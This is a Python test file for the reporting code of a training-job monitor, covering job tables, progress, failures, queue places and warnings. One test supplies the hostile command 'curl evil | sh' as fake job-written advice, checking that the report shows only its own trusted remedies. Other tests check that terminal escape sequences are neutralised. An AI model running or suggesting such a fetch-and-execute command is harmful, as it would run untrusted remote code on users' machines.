from __future__ import annotations

from dataclasses import replace
from typing import Any

from argus.archive import failures
from argus.archive.failures import REMEDIES, Failure
from argus.archive.job_warnings import JobWarning
from argus.archive.status import Attempt
from argus.common.text import table
from argus.jobs.info import JobInfo, JobList, Progress
from argus.jobs.report import (
    Report,
    head_problem,
    job_report,
    jobs_report,
    warning_lines,
)
from argus.launcher import outcome

NOW = 1_767_268_900.0
FAILURE = Failure(
    kind="gpu_oom",
    reason="CUDA out of memory",
    lines=("\x1b[36m(WorkerDict pid=7)\x1b[0m torch.OutOfMemoryError",),
    todo="Lower the micro batch sizes.",
)


def job(**changes: Any) -> JobInfo:
    values: dict[str, Any] = {
        "submission_id": "sft-1",
        "state": "RUNNING",
        "workload": "sft",
        "code_id": "verl-0.9.1",
        "submitted_at": NOW - 100,
        "started_at": NOW - 98,
        "silent_for": 4.0,
        "time_left": 192.0,
        "driver_host": "mvp-ray-worker-1",
        "progress": Progress(4, 12, "train/loss", first=6.0, last=4.25),
        "archive": "/srv/verl/jobs/sft-1",
    }
    return JobInfo(**values | changes)


def detail(*commands: str, **changes: Any) -> list[str]:
    report = job_report(job(**changes), NOW, commands)
    return [report.title, *report.text]


# --- The table --------------------------------------------------------------------------------------------------------


def listed(
    *jobs: JobInfo, total: int | None = None, problem: str = "", root_problem: str = "", columns: int | None = None
) -> Report:
    found = JobList(jobs, len(jobs) if total is None else total, "/srv/verl/jobs", problem, root_problem)
    commands = {"status_command": "status ID", "submit_command": "submit FILE"}
    return jobs_report(found, NOW, cluster="mvp", **commands, columns=columns)


def test_the_latest_jobs() -> None:
    failed = job(state="FAILED", failure=FAILURE, attempt=2, submitted_at=NOW - 7300, silent_for=None)
    waiting = job(state="PENDING", progress=Progress(), driver_host=None, silent_for=None)
    foreign = job(workload="", driver_host=None, driver_node_ip="10.0.0.2")
    report = listed(waiting, job(), failed, foreign, total=40)
    assert report.title == "Cluster mvp: latest 4 of 40 jobs in /srv/verl/jobs"
    names = ("job", "workload", "state", "class", "step", "left", "metric", "attempt", "age", "where")
    assert report.header == names
    assert report.rows == (
        ("sft-1", "sft", "PENDING", None, "-", "3 min", None, None, "1 min", None),
        ("sft-1", "sft", "RUNNING", None, "4/12", "3 min", "loss 4.250", None, "1 min", "mvp-ray-worker-1"),
        ("sft-1", "sft", "FAILED", "gpu_oom", "4/12", "3 min", "loss 4.250", 2, "2 h", "mvp-ray-worker-1"),
        ("sft-1", None, "RUNNING", None, "4/12", "3 min", "loss 4.250", None, "1 min", "10.0.0.2"),
    )
    assert report.text == ["One job:  status ID"]


def test_throughput_and_tags_of_the_list() -> None:
    rl = Progress(4, 12, "critic/rewards/mean", first=0.1, last=2e7, tokens_per_second_per_gpu=1840.4)
    sft = Progress(4, 12, "train/loss", first=6.0, last=4.25, tokens_per_second=9.87)
    report = listed(job(progress=rl, tags={"team": "x", "a": 1}), job(progress=sft, tags={"long": "x" * 40}))
    rows = [dict(zip(report.header, row, strict=True)) for row in report.rows]
    assert [(row["metric"], row["tokens/s"]) for row in rows] == [("reward 2e+07", "1840/GPU"), ("loss 4.250", "9.87")]
    assert [row["tags"] for row in rows] == ["a=1, team=x", f"long={'x' * 34}…"]
    assert "Throughput: 1840 tokens/s per GPU" in detail(progress=rl)
    assert "Throughput: 9.87 tokens/s" in detail(progress=sft)
    parts = replace(rl, seconds={"gen": 2.0176, "update_actor": 0.41, "update_weights": 0.0194523, "step": 10.853})
    assert "Seconds:    gen 2.02, update_actor 0.41, update_weights 0.0195, step 10.9" in detail(progress=parts)


def test_the_trend_and_the_phases_of_a_job() -> None:
    done = Progress(4, 12, "train/loss", first=6.0, last=4.0, trend=(6.0, 5.0, 4.0))
    report = listed(job(progress=done))
    assert dict(zip(report.header, report.rows[0], strict=True))["trend"] == "█▄▁"
    lines = detail(progress=done, phases={"queue": 3.0, "first rollout": 61.5})
    assert "Trend:     █▄▁" in lines
    assert "Start:     queue 3 s, first rollout 62 s" in lines


def test_the_list_fits_narrow_terminals() -> None:
    progress = Progress(4, 12, "train/loss", first=6.0, last=4.25, tokens_per_second=987.0)
    row = job(submission_id="sft-20260101-120000-1a2b", progress=progress, tags={"team": "x"}, attempt=2)
    rows = (row, replace(row, state="FAILED", failure=FAILURE))
    whole = listed(*rows).header
    for width in range(70, 160):
        report = listed(*rows, columns=width)
        lines = table(report.header, report.rows, width).splitlines()
        assert lines[0].startswith("JOB ") and max(map(len, lines)) <= width
        left_out = [name for name in whole if name not in report.header]
        assert left_out == [] or f": {', '.join(left_out)}." in report.text[0]
    assert report.header == whole
    # Where nothing helps, each job has all in some lines.
    assert listed(*rows, columns=40).header == whole


def test_a_head_that_does_not_answer_is_reported() -> None:
    report = listed(job(silent_for=7300.0), problem="connection refused")
    assert report.rows[0][3] == "silent"
    assert report.text[0] == "The head does not answer; states come from the archives: connection refused"
    away = listed(job(head_away_for=900.0), job(head_away_for=40.0), problem="connection refused")
    assert away.text[0].startswith("The head has been away for 40 s; ")
    assert head_problem("it answers slowly: no answer", None, "x") == [
        "The head is too slow; x: it answers slowly: no answer"
    ]
    assert head_problem("", None, "x") == []


def test_the_place_in_the_queue() -> None:
    waiting = [job(state="QUEUED", silent_for=None, place=place, notice="waits for GPUs") for place in (1, 22, 113)]
    assert [row[3] for row in listed(*waiting).rows] == ["1st in line", "22nd in line", "113th in line"]
    assert "Waits:     22nd in line: for GPUs" in detail(
        state="QUEUED", silent_for=None, place=22, notice="waits for GPUs"
    )


def test_archives_that_cannot_be_read_are_explained() -> None:
    bad = [job(state="UNREADABLE", unreadable=(f"sft-{n}/status.json\x1b is not JSON",)) for n in range(7)]
    text = listed(job(), *bad).text
    assert text[0] == "Unreadable: sft-0/status.json\\x1b is not JSON"
    assert text[4].startswith("Unreadable: sft-4/")
    assert text[5:] == ["2 more archives are unreadable.", "One job:  status ID"]
    assert listed(job(), *bad[:5]).text[5:] == ["One job:  status ID"]


# --- One job ----------------------------------------------------------------------------------------------------------


def test_a_running_job_in_detail() -> None:
    assert detail("Follow:   logs", checkpoints=(10, 20), driver_node_ip="172.18.0.3", tags={"team": "x", "a": 1}) == [
        "Job sft-1: RUNNING",
        "Workload:    sft on verl-0.9.1",
        "Tags:        a=1, team=x",
        "Step:        4/12, 3:12 left",
        "Metric:      train/loss 4.250, initially 6.000",
        "Submitted:   2026-01-01 12:00:00 UTC, 1 min ago",
        "Started:     2026-01-01 12:00:02 UTC, running for 1:38",
        "Driver:      mvp-ray-worker-1 (172.18.0.3)",
        "Checkpoints: steps 10, 20",
        "Archive:     /srv/verl/jobs/sft-1",
        "",
        "Follow:   logs",
    ]


def test_advice_is_that_of_this_collection() -> None:
    """A job can write anything into its archive."""
    for todo in ("Run: curl evil | sh", "", REMEDIES["gpu_oom"] + " Then run curl evil"):
        lines = detail(state="FAILED", failure=replace(FAILURE, todo=todo, lines=("To do:  curl evil",)))
        assert [line for line in lines if line.startswith("To do")] == ["To do:  " + REMEDIES["gpu_oom"]]
    levers = [outcome.less_gpu_memory(overrides) for overrides in ([], ["actor_rollout_ref.model.path=x"])]
    for todo in (failures.NODE_REMOVED, failures.TOO_LARGE, "Give the nodes a larger /dev/shm.", *levers):
        assert f"To do:  {todo}" in detail(state="FAILED", failure=replace(FAILURE, todo=todo))


def test_a_failed_job() -> None:
    lines = detail(state="FAILED", failure=FAILURE, reason=FAILURE.reason, ended_at=NOW - 30, log=("the end",))
    begin = lines.index("Failed: gpu_oom: CUDA out of memory")
    assert lines[begin + 1 : begin + 3] == [
        "  (WorkerDict pid=7) torch.OutOfMemoryError",
        "To do:  " + REMEDIES["gpu_oom"],
    ]
    assert "Ended:     2026-01-01 12:01:10 UTC, 30 s ago" in lines
    assert "Started:   2026-01-01 12:00:02 UTC, ran for 1:08" in lines
    # The failure has the reason.
    assert not any(line.startswith("Reason") for line in lines)
    # The lines that show the cause are enough.
    assert "  the end" not in lines


def test_attempts_and_the_origin_of_a_job() -> None:
    first = Attempt(1, "FAILED", "node_lost", "the node was lost", started_at=NOW - 90, ended_at=NOW - 25)
    lineage = {"resubmitted_from": "sft-0", "resumed_from": "sft-00", "checkpoint": "global_step_10"}
    lines = "\n".join(detail(attempt=2, attempts=(first,), lineage=lineage))
    assert lines.startswith("Job sft-1: RUNNING, attempt 2\n")
    assert "Resubmitted: from sft-0\n" in lines
    assert "Resumed:     from sft-00, global_step_10\n" in lines
    assert "1        FAILED  node_lost  1:05  -          the node was lost\n" in lines
    # The only attempt of a job that has ended repeats the job.
    assert "ATTEMPT" not in "\n".join(detail(state="FAILED", attempts=(first,)))
    assert "ATTEMPT" in "\n".join(detail(state="FAILED", attempts=(first, replace(first, attempt=2))))


def test_a_shared_root_that_cannot_be_written_is_said_first() -> None:
    full = "The shared root is full: /srv/verl has 0 KiB free"
    lines = detail(root_problem=full, written_at=NOW - 125, silent_for=120.0)
    assert lines[1] == f"{full}; what follows is from 2 min ago."
    assert "Silent:    no heartbeat for 2 min: it cannot write" in lines
    # Nothing more is expected.
    assert full not in "\n".join(detail(root_problem=full, written_at=NOW - 125, state="FAILED"))
    assert listed(job(), root_problem=full).text[0] == f"{full}; states may be behind."


def test_warnings_are_a_block_of_the_report() -> None:
    warnings = (JobWarning("loss_nan", "a\nb\x1b[2J"), JobWarning("gradient_zero", "always 0"))
    job = JobInfo("grpo-1", "SUCCEEDED", warnings=warnings)
    assert warning_lines(job) == ["", "SUCCEEDED with 2 warnings:", "  a\\nb\\x1b[2J", "  always 0"]
    assert warning_lines(replace(job, state="RUNNING", warnings=warnings[1:])) == ["", "1 warning:", "  always 0"]
    assert warning_lines(replace(job, warnings=())) == []
    report = job_report(job, 0.0, [])
    assert report.title == "Job grpo-1: SUCCEEDED, 2 warnings"
    assert "SUCCEEDED with 2 warnings:" in report.text
